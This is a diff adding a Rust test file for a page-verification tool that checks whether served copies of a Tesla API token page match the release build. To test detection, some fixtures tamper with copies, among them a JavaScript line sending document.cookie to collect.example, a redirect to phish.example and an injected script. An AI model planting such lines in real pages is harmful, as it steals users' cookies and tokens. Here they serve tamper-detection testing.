@@ -1,0 +1,273 @@
+//! `token-relay verify` against copies of a page served by `token-relay
+//! --page`: the release's page itself, and copies changed one way each.
+//! The pages are small and synthetic, sealed by page-seal's own function as
+//! the build seals the real one (tests/verify_built.rs uses a real build).
+
+use base64::Engine;
+use sha2::{Digest, Sha384};
+use std::io::{BufRead, BufReader};
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Stdio};
+use std::sync::atomic::{AtomicUsize, Ordering};
+use token_core::display::this_copy::COMMIT_MARK_PREFIX;
+
+const COMMIT: &str = "0123456789abcdef0123456789abcdef01234567";
+const OTHER_COMMIT: &str = "fedcba9876543210fedcba9876543210fedcba98";
+const JS: &[u8] = b"export default async function init(module) { /* wasm-bindgen's glue */ }\n";
+
+fn sri(bytes: &[u8]) -> String {
+    format!("sha384-{}", base64::engine::general_purpose::STANDARD.encode(Sha384::digest(bytes)))
+}
+
+fn wasm(commit: &str) -> Vec<u8> {
+    let mut wasm = b"\0asm\x01\0\0\0 the code, then its data: ".to_vec();
+    wasm.extend((0..4000u32).map(|i| (i * 7 % 251) as u8));
+    wasm.extend(format!("{COMMIT_MARK_PREFIX}{commit};   ").bytes());
+    wasm.extend_from_slice(b"more data");
+    wasm
+}
+
+/// A sealed page in a fresh folder `name`, built for `base` (`/` or
+/// `/repo/`), its files named after `stem`, with `wasm` as its code.
+fn page(name: &str, base: &str, stem: &str, wasm: &[u8]) -> PathBuf {
+    // Tests run in parallel: every page gets a folder of its own.
+    static COUNT: AtomicUsize = AtomicUsize::new(0);
+    let count = COUNT.fetch_add(1, Ordering::Relaxed);
+    let dir =
+        Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("verify-{}-{count}-{name}", std::process::id()));
+    let _ = std::fs::remove_dir_all(&dir);
+    std::fs::create_dir_all(&dir).unwrap();
+    let (js_name, wasm_name) = (format!("{stem}.js"), format!("{stem}_bg.wasm"));
+    std::fs::write(dir.join(&js_name), JS).unwrap();
+    std::fs::write(dir.join(&wasm_name), wasm).unwrap();
+    let html = format!(
+        "<!doctype html><html lang=en><head><meta charset=utf-8><title>Tokens</title>\
+         <link rel=icon href=\"data:,\">\
+         <link rel=modulepreload href=\"{base}{js_name}\" crossorigin=anonymous integrity=\"{}\">\
+         <link rel=preload href=\"{base}{wasm_name}\" crossorigin=anonymous integrity=\"{}\" as=fetch type=application/wasm>\
+         <script type=module>\nimport init from '{base}{js_name}';\nconst answer = await fetch('{base}{wasm_name}');\n\
+         await init({{ module_or_path: answer }});\n</script>\
+         <style>body{{margin:0}}</style></head><body><h1>Your own Tesla API tokens</h1></body></html>",
+        sri(JS),
+        sri(wasm)
+    );
+    std::fs::write(dir.join("index.html"), page_seal::seal(&html).unwrap()).unwrap();
+    dir
+}
+
+/// The release's page, or an exact copy of it (`name` says which).
+fn release(name: &str) -> PathBuf {
+    page(name, "/", "tesla-token-page-1a2b", &wasm(COMMIT))
+}
+
+fn edit(dir: &Path, file: &str, change: impl FnOnce(Vec<u8>) -> Vec<u8>) {
+    let path = dir.join(file);
+    std::fs::write(&path, change(std::fs::read(&path).unwrap())).unwrap();
+}
+
+fn edit_html(dir: &Path, change: impl FnOnce(String) -> String) {
+    edit(dir, "index.html", |html| change(String::from_utf8(html).unwrap()).into_bytes());
+}
+
+/// `token-relay --page dir` on a free loopback port; killed when dropped.
+struct Served {
+    child: Child,
+    origin: String,
+}
+
+impl Served {
+    fn start(dir: &Path) -> Self {
+        let mut child = Command::new(env!("CARGO_BIN_EXE_token-relay"))
+            .args(["--listen", "127.0.0.1:0", "--page"])
+            .arg(dir)
+            .stderr(Stdio::piped())
+            .spawn()
+            .expect("the relay starts");
+        let mut lines = BufReader::new(child.stderr.take().unwrap()).lines();
+        let first = lines.next().unwrap().unwrap();
+        let origin =
+            first.strip_prefix("token-relay listening on ").unwrap().split(' ').next().unwrap().to_owned();
+        std::thread::spawn(move || lines.map_while(Result::ok).for_each(drop));
+        Self { child, origin }
+    }
+}
+
+impl Drop for Served {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+/// Runs `token-relay verify address --page reference`: exit code and stdout.
+fn verify(address: &str, reference: &Path, extra: &[&str]) -> (i32, String) {
+    let output = Command::new(env!("CARGO_BIN_EXE_token-relay"))
+        .args(["verify", address, "--page"])
+        .arg(reference)
+        .args(extra)
+        .output()
+        .unwrap();
+    let text =
+        format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
+    (output.status.code().unwrap_or(-1), text)
+}
+
+fn verify_copy(copy: &Path, path: &str) -> (i32, String) {
+    let served = Served::start(copy);
+    verify(&format!("{}{path}", served.origin), &release("release"), &[])
+}
+
+#[test]
+fn the_page_served_by_the_relay_is_identical() {
+    let (copy, reference) = (release("copy"), release("release"));
+    let served = Served::start(&copy);
+    let (code, out) = verify(&format!("{}/", served.origin), &reference, &[]);
+    assert_eq!(code, 0, "{out}");
+    assert!(out.contains(&format!("IDENTICAL to the page in {}", reference.display())), "{out}");
+    assert!(out.contains(&format!("built from commit {COMMIT}")), "{out}");
+    assert!(out.contains("Relays its security policy lets it connect to (besides itself and Tesla): http://127.0.0.1:* http://localhost:*."), "{out}");
+}
+
+#[test]
+fn a_copy_built_for_another_address_is_identical() {
+    // As GitHub Pages serves a project: below /<repo>/, the loader naming it.
+    let copy = page("sub-path", "/tesla-token-page/", "tesla-token-page-1a2b", &wasm(COMMIT));
+    let (code, out) = verify_copy(&copy, "/tesla-token-page/");
+    assert_eq!(code, 0, "{out}");
+}
+
+#[test]
+fn a_copy_with_one_byte_of_the_wasm_changed_differs() {
+    let mut changed = wasm(COMMIT);
+    changed[100] ^= 1;
+    // Its integrity value is updated too: the browser would run it.
+    let copy = page("one-byte", "/", "tesla-token-page-1a2b", &changed);
+    let (code, out) = verify_copy(&copy, "/");
+    assert_eq!(code, 1, "{out}");
+    let size = changed.len();
+    let differs = format!(
+        "tesla-token-page-1a2b_bg.wasm differs from the release's tesla-token-page-1a2b_bg.wasm: \
+         {size} bytes against {size}, the first difference at byte 100."
+    );
+    assert!(out.contains(&differs), "{out}");
+    assert!(out.contains("NOT the page in") && out.contains("its code differs"), "{out}");
+}
+
+#[test]
+fn a_copy_that_admits_another_connection_fails_on_its_policy() {
+    let copy = release("copy");
+    edit_html(&copy, |html| html.replace("connect-src 'self'", "connect-src 'self' https://collect.example"));
+    let (code, out) = verify_copy(&copy, "/");
+    assert_eq!(code, 4, "{out}");
+    assert!(out.contains("lets it connect to https://collect.example: neither the page itself"), "{out}");
+    assert!(out.contains("NOT VERIFIED: its security policy admits more"), "{out}");
+}
+
+#[test]
+fn a_copy_whose_file_does_not_match_its_integrity_value_fails() {
+    let copy = release("copy");
+    edit(&copy, "tesla-token-page-1a2b.js", |mut js| {
+        js.extend_from_slice(b"fetch('https://collect.example/?' + document.cookie);\n");
+        js
+    });
+    let (code, out) = verify_copy(&copy, "/");
+    assert_eq!(code, 3, "{out}");
+    assert!(
+        out.contains("tesla-token-page-1a2b.js does not match the integrity value the HTML declares"),
+        "{out}"
+    );
+}
+
+#[test]
+fn a_copy_built_from_another_commit_says_which() {
+    let copy = page("other-commit", "/", "tesla-token-page-9f8e", &wasm(OTHER_COMMIT));
+    let (code, out) = verify_copy(&copy, "/");
+    assert_eq!(code, 5, "{out}");
+    assert!(out.contains(&format!("built from commit {OTHER_COMMIT}, not {COMMIT}.")), "{out}");
+}
+
+#[test]
+fn a_script_added_before_the_policy_is_found() {
+    let copy = release("copy");
+    edit_html(&copy, |html| {
+        html.replace("<meta charset=utf-8>", "<meta charset=utf-8><script>steal()</script>")
+    });
+    let (code, out) = verify_copy(&copy, "/");
+    assert_eq!(code, 4, "{out}");
+    assert!(out.contains("comes before the security policy"), "{out}");
+    assert!(out.contains("inline scripts differ"), "{out}");
+}
+
+#[test]
+fn a_copy_whose_html_sends_the_reader_elsewhere_differs() {
+    let copy = release("copy");
+    let refresh = "<meta http-equiv=refresh content=\"0;url=https://phish.example/\">";
+    edit_html(&copy, |html| html.replace("<title>", &format!("{refresh}<title>")));
+    let (code, out) = verify_copy(&copy, "/");
+    assert_eq!(code, 1, "{out}");
+    assert!(out.contains("Its HTML differs from the release's") && out.contains("phish.example"), "{out}");
+}
+
+#[test]
+fn only_https_or_this_computer_is_checked_and_the_reference_must_exist() {
+    let (code, out) = verify("http://example.com/", &release("release"), &[]);
+    assert_eq!(code, 2, "{out}");
+    assert!(out.contains("http:// only on this computer"), "{out}");
+    let (code, out) = verify("https://127.0.0.1:1/", Path::new("/nonexistent/page"), &[]);
+    assert_eq!(code, 7, "{out}");
+    let help = Command::new(env!("CARGO_BIN_EXE_token-relay")).args(["verify", "--help"]).output().unwrap();
+    let help = String::from_utf8_lossy(&help.stdout);
+    for code in 0..=7 {
+        assert!(help.contains(&format!("\n  {code}  ")), "exit code {code} in --help:\n{help}");
+    }
+}
+
+/// A hostile server on loopback: redirects elsewhere or in a loop, answers
+/// without end, or never answers. Returns its origin.
+fn hostile_server() -> String {
+    use std::io::{Read, Write};
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let origin = format!("http://{}", listener.local_addr().unwrap());
+    std::thread::spawn(move || {
+        for mut stream in listener.incoming().map_while(Result::ok) {
+            std::thread::spawn(move || {
+                let mut request = [0u8; 2048];
+                let read = stream.read(&mut request).unwrap_or(0);
+                let request = String::from_utf8_lossy(&request[..read]).into_owned();
+                let path = request.split(' ').nth(1).unwrap_or_default().to_owned();
+                let _ = match path.as_str() {
+                    "/elsewhere/" => stream.write_all(
+                        b"HTTP/1.1 302 Found\r\nLocation: http://127.0.0.2:9/\r\nContent-Length: 0\r\n\r\n",
+                    ),
+                    "/loop/" => stream
+                        .write_all(b"HTTP/1.1 302 Found\r\nLocation: /loop/\r\nContent-Length: 0\r\n\r\n"),
+                    "/huge/" => stream
+                        .write_all(b"HTTP/1.1 200 OK\r\nConnection: close\r\n\r\n")
+                        .and_then(|()| (0..10 * 1024).try_for_each(|_| stream.write_all(&[b'<'; 1024]))),
+                    _ => {
+                        std::thread::sleep(std::time::Duration::from_secs(8));
+                        Ok(())
+                    }
+                };
+            });
+        }
+    });
+    origin
+}
+
+#[test]
+fn redirects_huge_answers_and_slow_servers_are_bounded() {
+    let server = hostile_server();
+    let started = std::time::Instant::now();
+    for (path, says) in [
+        ("/elsewhere/", "redirected more than 3 times, or to another origin"),
+        ("/loop/", "redirected more than 3 times, or to another origin"),
+        ("/huge/", "the answer is larger than 8 MiB"),
+        ("/slow/", "no complete answer within 1 s"),
+    ] {
+        let (code, out) = verify(&format!("{server}{path}"), &release("release"), &["--timeout", "1"]);
+        assert_eq!(code, 6, "{path}: {out}");
+        assert!(out.contains(says), "{path}: {out}");
+    }
+    assert!(started.elapsed().as_secs() < 8, "the slow server was waited out");
+}
